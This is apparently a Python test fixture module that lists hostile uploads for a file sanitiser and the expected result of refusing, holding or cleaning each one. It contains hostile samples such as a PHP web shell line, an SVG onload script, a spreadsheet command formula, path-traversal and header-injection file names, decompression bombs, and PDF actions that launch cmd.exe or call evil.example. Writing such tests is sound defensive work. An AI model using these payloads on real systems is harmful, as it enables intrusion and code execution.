"""Files that mean harm, or seem to: what each is called, claims to be, and what becomes of it.

`REFUSED` is said at once, with the form; `HELD` is refused by the check; what is `CLEANED` is
passed on as a harmless copy, in which none of the words in `gone` is left.
"""

from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from itertools import count
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from messaging.limits import MOST_BYTES
from tests import uploads
from tests.uploads import SCRIPT

REFUSED, HELD, CLEANED = "refused at once", "refused by the check", "cleaned"
JPEG, PNG, WEBP = "image/jpeg", "image/png", "image/webp"
PDF, TEXT = "application/pdf", "text/plain"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
SECRET_GONE = (b"Exif", b"GPS", b"Alice", b"script")


@dataclass(frozen=True)
class Hostile:
    what: str
    name: str
    declared: str
    make: Callable[[], bytes]
    becomes: str
    gone: tuple[bytes, ...] = ()


FILES: list[Hostile] = []


def add(becomes: str, what: str, name: str, declared: str, content: Any, *gone: bytes) -> None:
    make = content if callable(content) else lambda: content
    FILES.append(Hostile(what, name, declared, make, becomes, gone))


jpeg, png = uploads.picture(), uploads.picture("PNG")
webp, sheet = uploads.picture("WEBP"), uploads.pdf()

# What is not what its name says.
add(REFUSED, "HTML called a PNG", "photo.png", PNG, b"<html>" + SCRIPT)
add(REFUSED, "SVG called a PNG", "photo.png", PNG, SVG)
add(REFUSED, "SVG", "photo.svg", "image/svg+xml", SVG)
add(REFUSED, "HTML", "page.html", "text/html", SCRIPT)
add(REFUSED, "HTML declared as a JPEG's type", "page.html", JPEG, SCRIPT)
add(REFUSED, "XML", "feed.xml", "text/xml", b"<?xml version='1.0'?>")
add(REFUSED, "a program", "run.exe", "application/octet-stream", b"MZ\x90\0")
add(REFUSED, "a program called a JPEG", "run.jpg", JPEG, b"MZ\x90\0")
add(REFUSED, "a program of Linux called a PDF", "run.pdf", PDF, b"\x7fELF\2\1\1")
add(REFUSED, "a script", "run.sh", "text/x-sh", b"#!/bin/sh\nid\n")
add(REFUSED, "PHP", "shell.php", "application/x-php", b"<?php system($_GET[0]);")
add(REFUSED, "an archive", "files.zip", "application/zip", b"PK\3\4")
add(REFUSED, "an archive called a PNG", "files.png", PNG, b"PK\3\4" + b"\0" * 200)
add(REFUSED, "an archive bomb called a PNG", "bomb.png", PNG, b"PK\3\4" + b"\0" * 100_000)
add(REFUSED, "a document with macros", "letter.docm", "application/msword", b"\xd0\xcf\x11\xe0")
add(REFUSED, "a GIF", "photo.gif", "image/gif", b"GIF89a\1\0\1\0")
add(REFUSED, "a GIF that is JavaScript", "photo.jpg", JPEG, b"GIF89a=1;alert(1)")
add(REFUSED, "a TIFF called a JPEG", "photo.jpg", JPEG, b"II*\0")
add(REFUSED, "a JPEG called a PNG", "photo.png", PNG, jpeg)
add(REFUSED, "a PNG declared as HTML", "photo.png", "text/html", png)
add(REFUSED, "a JPEG declared as SVG", "photo.jpg", "image/svg+xml", jpeg)
add(REFUSED, "a PDF called a text", "notes.txt", TEXT, sheet + b"\xff\xfe\0")
add(REFUSED, "HTML before a PDF", "both.pdf", PDF, SCRIPT + sheet)
add(REFUSED, "EPS", "drawing.eps", "application/postscript", b"%!PS-Adobe")
add(REFUSED, "a WAV in the place of a WebP", "photo.webp", WEBP, b"RIFF\4\0\0\0WAVE")

# Names.
add(REFUSED, "two extensions, the last a program's", "photo.jpg.exe", JPEG, jpeg)
add(REFUSED, "an extension with a space after it", "photo.jpg .php", JPEG, jpeg)
add(REFUSED, "no extension", "photo", JPEG, jpeg)
add(REFUSED, "nothing but dots", "...", JPEG, jpeg)
add(REFUSED, "a name that is read backwards", "photo\u202egpj.exe", JPEG, jpeg)
add(REFUSED, "NUL before the true end", "photo.php\0.exe", JPEG, jpeg)
add(REFUSED, "a stream of NTFS", "photo.jpg::$DATA", JPEG, jpeg)
add(CLEANED, "a path upwards", "../../../etc/cron.d/photo.jpg", JPEG, jpeg)
add(CLEANED, "a path of Windows", "C:\\Windows\\photo.jpg", JPEG, jpeg)
add(CLEANED, "a name with a line end and a header", "a\r\nSet-Cookie: x=1\r\n.jpg", JPEG, jpeg)
add(CLEANED, "a name with quotes", 'a"; filename="run.exe".jpg', JPEG, jpeg)
add(CLEANED, "a name that is a script", "<script>alert(1)</script>.png", PNG, png)
add(CLEANED, "a name turned around, and a picture", "\u202egnp.exe.png", PNG, png)
add(CLEANED, "a name of 900 letters", "x" * 900 + ".webp", WEBP, webp)
add(CLEANED, "a reserved name of Windows", "con.txt", TEXT, b"Hello")

# Too much, too little, broken.
add(REFUSED, "nothing", "photo.jpg", JPEG, b"")
add(REFUSED, "one byte too many", "notes.txt", TEXT, lambda: b"x" * (MOST_BYTES + 1))
add(REFUSED, "a JPEG and much behind it", "photo.jpg", JPEG, lambda: jpeg + b"\0" * MOST_BYTES)
add(REFUSED, "a header, and no more", "photo.png", PNG, png[:8])
add(REFUSED, "a PNG of no height", "photo.png", PNG, uploads.png_of(10, 0))
add(REFUSED, "a JPEG without a frame", "photo.jpg", JPEG, b"\xff\xd8\xff\xe0\0\4ab")
add(REFUSED, "a JPEG of markers that lead nowhere", "photo.jpg", JPEG, b"\xff\xd8" + b"\xff" * 999)
add(REFUSED, "a JPEG of nothing but markers", "photo.jpg", JPEG,
    lambda: b"\xff\xd8" + b"\xff" * (MOST_BYTES - 2))  # fmt: skip
add(HELD, "half a JPEG", "photo.jpg", JPEG, uploads.picture(size=(900, 900))[:2500])
add(HELD, "half a PNG", "photo.png", PNG, png[:60])
add(HELD, "half a WebP", "photo.webp", WEBP, webp[:60])
add(HELD, "a PNG with a wrong sum", "photo.png", PNG, png[:29] + b"\0\0\0\0" + png[33:])
add(HELD, "a PNG without pixels", "photo.png", PNG, uploads.png_of(10, 10))
add(HELD, "a WebP without pixels", "photo.webp", WEBP, uploads.webp_of(10, 10))
add(HELD, "a PDF that is none", "paper.pdf", PDF, b"%PDF-1.7\n" + b"nothing" * 99)
add(HELD, "a PDF without pages", "paper.pdf", PDF, lambda: uploads.written(pikepdf.new()))
add(HELD, "a PDF nested 400 deep", "paper.pdf", PDF, uploads.pdf_with_deep_nesting)

# Bombs.
add(REFUSED, "a PNG of 4 gigapixels", "photo.png", PNG, uploads.png_of(65535, 65535))
add(REFUSED, "a PNG of 2 billion columns", "photo.png", PNG, uploads.png_of(2**31 - 1, 2**31 - 1))
add(REFUSED, "a JPEG of 4 gigapixels", "photo.jpg", JPEG, uploads.jpeg_of(65535, 65535))
add(REFUSED, "a WebP of 268 megapixels", "photo.webp", WEBP, uploads.webp_of(16384, 16384))
add(REFUSED, "a PNG of zeros, 400 megapixels", "photo.png", PNG,
    lambda: uploads.png_bomb(20000, 20000))  # fmt: skip
add(
    CLEANED, "a PNG of zeros that just fits", "photo.png", PNG, lambda: uploads.png_bomb(7000, 7000)
)
add(HELD, "a PNG with a comment that unpacks to 100 MB", "photo.png", PNG,
    lambda: uploads.png_with_text_bomb(100_000_000))  # fmt: skip

# What hides in a file of the right kind.
add(CLEANED, "a photo with coordinates", "photo.jpg", JPEG, uploads.photo_with_exif, *SECRET_GONE)
add(CLEANED, "a JPEG with a script as its comment", "photo.jpg", JPEG,
    lambda: uploads.picture(comment=SCRIPT), *SECRET_GONE)  # fmt: skip
add(CLEANED, "a JPEG with PHP behind it", "photo.jpg", JPEG, jpeg + b"<?php id();", b"<?php")
add(CLEANED, "a JPEG that is an archive too", "photo.jpg", JPEG, jpeg + b"PK\3\4run.exe", b"PK\3\4")
add(CLEANED, "a PNG that is HTML too", "photo.png", PNG, png + SCRIPT, b"script")
add(CLEANED, "a PNG with a script in a chunk", "photo.png", PNG,
    png[:33] + uploads.chunk(b"tEXt", b"Comment\0" + SCRIPT) + png[33:], b"script")  # fmt: skip
add(CLEANED, "a WebP with XMP", "photo.webp", WEBP,
    lambda: uploads.picture("WEBP", xmp=SCRIPT), b"script", b"XMP")  # fmt: skip
add(CLEANED, "a text that is HTML", "notes.txt", TEXT, b"<html>" + SCRIPT)
add(CLEANED, "a text for a spreadsheet to run", "notes.txt", TEXT, b"=cmd|'/C calc'!A0")
add(REFUSED, "a text with NUL", "notes.txt", TEXT, b"Hello\0there")
add(REFUSED, "a text with commands for a terminal", "notes.txt", TEXT, b"\x1b]0;title\7")
add(REFUSED, "a text with commands of eight bits", "notes.txt", TEXT, "\x9b2J".encode())
add(REFUSED, "a text in UTF-16", "notes.txt", TEXT, "Hello".encode("utf-16"))
add(REFUSED, "a text in another encoding", "notes.txt", TEXT, "Grüße".encode("latin-1"))
add(HELD, "what the virus scanner knows", "notes.txt", TEXT, uploads.INFECTED)
add(HELD, "the same in a picture's tail", "photo.jpg", JPEG, jpeg + uploads.INFECTED)

# PDF.
for key, value in {
    "OpenAction": uploads.script(),
    "AA": Dictionary(WC=uploads.script()),
    "Names": Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), uploads.script()])),
    ),
}.items():
    add(CLEANED, f"a PDF with a script as {key}", "paper.pdf", PDF,
        partial(uploads.pdf, **{key: value}), b"JavaScript", b"alert")  # fmt: skip
add(CLEANED, "a PDF with a script on a page", "paper.pdf", PDF, uploads.pdf_with_page_action,
    b"JavaScript", b"alert")  # fmt: skip
add(CLEANED, "a PDF with a script in a form", "paper.pdf", PDF, uploads.pdf_with_form,
    b"JavaScript", b"alert", b"XFA", b"evil")  # fmt: skip
add(CLEANED, "a PDF with a program in it", "paper.pdf", PDF, uploads.pdf_with_file,
    b"run.exe", b"MZ", b"EmbeddedFile")  # fmt: skip
add(CLEANED, "a PDF that names its author", "paper.pdf", PDF, uploads.pdf_with_author, b"Alice")
add(CLEANED, "a PDF with HTML behind it", "paper.pdf", PDF, sheet + SCRIPT, b"script")
numbers = count(1)
for action in (
    {"S": Name.Launch, "F": String("cmd.exe")},
    {"S": Name.SubmitForm, "F": String("https://evil.example")},
    {"S": Name.ImportData, "F": String("evil.fdf")},
    {"S": Name.GoToR, "F": String("\\\\evil.example\\share")},
    {"S": Name.GoToE, "F": String("evil.pdf")},
    {"S": Name.Rendition, "JS": String("evil()")},
    {"S": Name.URI, "URI": String("javascript:evil()")},
    {"S": Name.URI, "URI": String("file:///evil")},
    {"S": Name.GoTo, "Next": Array([uploads.script()])},
):
    add(CLEANED, f"a PDF with a link that acts, {next(numbers)}", "paper.pdf", PDF,
        partial(uploads.pdf_with_link, **action), b"evil", b"cmd.exe", b"alert")  # fmt: skip
for kind in ("FileAttachment", "RichMedia", "Movie", "Sound", "Screen"):
    add(CLEANED, f"a PDF with an annotation, {kind}", "paper.pdf", PDF,
        partial(uploads.pdf_with_annotation, Subtype=Name(f"/{kind}")), kind.encode())  # fmt: skip
add(HELD, "a PDF with a password", "paper.pdf", PDF,
    lambda: uploads.pdf(encryption=pikepdf.Encryption(owner="a", user="b")))  # fmt: skip
add(HELD, "a PDF that anybody may open and nobody change", "paper.pdf", PDF,
    lambda: uploads.pdf(encryption=pikepdf.Encryption(owner="a", user="")))  # fmt: skip
